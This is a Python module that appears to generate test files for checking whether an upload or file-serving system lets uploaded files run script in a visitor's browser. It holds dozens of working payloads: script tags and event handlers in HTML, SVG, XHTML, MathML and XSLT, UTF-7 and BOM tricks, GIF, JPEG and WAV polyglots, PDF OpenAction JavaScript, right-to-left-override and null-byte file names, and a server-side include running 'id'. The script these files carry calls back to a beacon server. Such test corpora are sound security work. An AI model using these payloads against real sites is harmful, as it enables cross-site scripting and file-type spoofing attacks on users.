"""Files that try to run a script in whoever opens them, each in its own way.

A script that runs renames the page and the window, and asks the hostile server, in three ways, for
an address that ends with the file's number. Knows no chat and no browser.
"""

from __future__ import annotations

from typing import NamedTuple, Protocol

__all__ = ["RAN", "HostileFile", "hostile_files"]

RAN = "a script ran"
RTL = "\u202e"  # what follows is shown from right to left
SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"


class HostileFile(NamedTuple):
    """A file, and what a careless server would say it is."""

    name: str
    content: bytes
    careless_type: str


class _Add(Protocol):
    """Adds a file; `{js}` in its form becomes the script."""

    def __call__(
        self, name: str, careless_type: str, form: str | bytes, *, encoding: str = "utf-8"
    ) -> None: ...


def hostile_files(beacon_url: str) -> list[HostileFile]:
    """Return all of them.

    Args:
        beacon_url: What a script that runs asks for, with what it is appended.
    """
    made: list[HostileFile] = []

    def add(name: str, careless_type: str, form: str | bytes, *, encoding: str = "utf-8") -> None:
        js = script(f"{beacon_url}{len(made)}")
        if isinstance(form, bytes):
            content = form.replace(b"{js}", js.encode())
        else:
            content = form.replace("{js}", js).encode(encoding)
        made.append(HostileFile(name, content, careless_type))

    _add_markup(add)
    _add_xml(add)
    _add_polyglots(add)
    _add_others(add)
    return made


def script(url: str) -> str:
    """Return the script, on one line, without quotes, angle brackets, ampersands and stars."""
    name, address = (
        f"String.fromCharCode({','.join(str(ord(one)) for one in text)})" for text in (RAN, url)
    )
    tries = (
        f"self.ran={name}",
        f"self.name={name}",
        f"document.title={name}",
        f"top.ran={name}",
        f"new Image().src={address}",
        f"fetch({address})",
        f"navigator.sendBeacon({address})",
    )
    return "".join(f"try{{{one}}}catch(e){{}};" for one in tries)


def _add_markup(add: _Add) -> None:
    html = "text/html"
    page = "<!DOCTYPE html><title>x</title><script>{js}</script>"
    add("page.html", html, page)
    add("page.htm", html, "<body onload='{js}'>")
    add("picture.png", html, page)  # says that it is a picture
    add("notes.txt", html, "hello <script>{js}</script>")  # browsers once sniffed this
    add("late.txt", html, "x" * 2000 + "<script>{js}</script>")
    add("marked.txt", html, "\ufeff" + page)
    add("wide.html", html, "\ufeff" + page, encoding="utf-16-le")
    add("seven.html", "text/html; charset=utf-7", "+ADw-script+AD4-{js}+ADw-/script+AD4-")
    add("frame.html", html, "<iframe srcdoc='<script>{js}</script>'></iframe>")
    add("link.html", html, "<meta http-equiv=refresh content='0;url=javascript:{js}'>")
    add("image.html", html, "<img src=x onerror='{js}'>")
    add("events.html", html, "<details open ontoggle='{js}'><video><source onerror='{js}'></video>")
    add(f"photo{RTL}gnp.html", html, page)
    add(f"invoice{RTL}fdp.hta", "application/hta", page)
    add("../../page.html\0.png", html, page)
    add("page.html;.png", html, page)
    add('"><script>alert(1)</script>.html', html, page)
    add("page.shtml", html, "<!--#exec cmd='id' -->" + page)
    add("\u200b.html", html, page)


def _add_xml(add: _Add) -> None:
    svg, xml = "image/svg+xml", "text/xml"
    drawing = f"<svg xmlns='{SVG}' onload='{{js}}'><script>{{js}}</script></svg>"
    add("drawing.svg", svg, drawing)
    add("drawing.png", svg, drawing)  # an SVG that says it is a PNG
    add(f"drawing{RTL}gnp.svg", svg, drawing)
    add("declared.svg", svg, f"<?xml version='1.0'?><!-- {'x' * 1600} -->{drawing}")
    add(
        "foreign.svg",
        svg,
        f"<svg xmlns='{SVG}'><foreignObject><body xmlns='{XHTML}' onload='{{js}}'>"
        "<script>{js}</script></body></foreignObject></svg>",
    )
    add("animated.svg", svg, f"<svg xmlns='{SVG}'><animate onbegin='{{js}}' dur='1s'/></svg>")
    add(
        "page.xhtml",
        "application/xhtml+xml",
        f"<html xmlns='{XHTML}'><script>{{js}}</script></html>",
    )
    add("data.xml", xml, f"<a><x:script xmlns:x='{XHTML}'>{{js}}</x:script></a>")
    add(
        "formula.mml",
        "application/mathml+xml",
        "<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:{js}'>"
        f"<mtext><script xmlns='{XHTML}'>{{js}}</script></mtext></math>",
    )
    sheet = (
        "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        f"<xsl:template match='/'><html xmlns='{XHTML}'><script>{{js}}</script></html>"
        "</xsl:template></xsl:stylesheet>"
    )
    add("styled.xml", xml, f"<?xml-stylesheet type='text/xsl' href='#s'?><a id='s'>{sheet}</a>")
    add("far.xml", xml, "<?xml-stylesheet type='text/xsl' href='sheet.xsl'?><a/>")
    add("sheet.xsl", "text/xsl", sheet)
    add(
        "feed.rss",
        "application/rss+xml",
        f"<rss><x:script xmlns:x='{XHTML}'>{{js}}</x:script></rss>",
    )
    add(
        "entity.xml",
        xml,
        f"<!DOCTYPE a [<!ENTITY e \"<script xmlns='{XHTML}'>{{js}}</script>\">]><a>&e;</a>",
    )


def _add_polyglots(add: _Add) -> None:
    js = "text/javascript"
    add("cat.gif", js, b"GIF89a=0;{js}//;")  # a picture by its first bytes, a program as a whole
    add("cat2.gif", js, b"GIF89a/*" + b"\0" * 40 + b"*/=0;{js}//\0;")
    add("cat.jpg", js, b"\xff\xd8\xff\xe0/*" + b"JFIF\0\x01\x01" + b"*/=0;{js}//\xff\xd9")
    add("cat.bmp", js, b"BM=0;{js}//")
    add("tune.wav", js, b"RIFF=0;{js}//WAVEfmt ")
    add("tune2.wav", js, b"RIFF/*" + b"\0\0WAVEfmt " + b"*/=0;{js}")
    add("tune.mp3", js, b"ID3=0;{js}//" + b"\0" * 20)
    add("film.mp4", js, b"\0\0\0\x20ftypisom\0\0\x02\0isom<script>{js}</script>")
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde"
    add("page.png", "text/html", png + b"<script>{js}</script>")
    add("page.gif", "text/html", b"GIF89a\x01\0\x01\0\0\0\0<script>{js}</script>;")
    add("paper.png", "application/pdf", png + b"%PDF-1.4\n1 0 obj<</JS(app.alert(1))>>")
    add("archive.png", "text/html", b"PK\x03\x04" + b"\0" * 30 + b"<script>{js}</script>")


def _add_others(add: _Add) -> None:
    js = "text/javascript"
    add("program.js", js, "{js}")
    add("program.mjs", js, "{js};export default 0")
    add("program.txt", js, "{js}")
    add("worker.js", js, "{js};self.addEventListener('fetch',()=>0)")
    add("data.json", js, '{"x":1}\n{js}')
    add("style.css", "text/css", "@import 'javascript:{js}';*{background:url(javascript:{js})}")
    add(
        "paper.pdf",
        "application/pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction"
        b"<</S/JavaScript/JS({js})>>>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF",
    )
    mhtml = (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b; type=text/html\r\n\r\n"
        "--b\r\nContent-Type: text/html\r\nContent-Location: http://x.example/\r\n\r\n"
        "<script>{js}</script>\r\n--b--\r\n"
    )
    add("saved.mht", "multipart/related", mhtml)
    add("saved.mhtml", "message/rfc822", mhtml)
    add("mail.eml", "message/rfc822", mhtml)
    add("film.swf", "application/x-shockwave-flash", b"FWS\x06\0\0\0\0{js}")
    add("shortcut.url", "text/plain", "[InternetShortcut]\r\nURL=javascript:{js}\r\n")
    add("cache.appcache", "text/cache-manifest", "CACHE MANIFEST\nFALLBACK:\n/ /files/x\n")
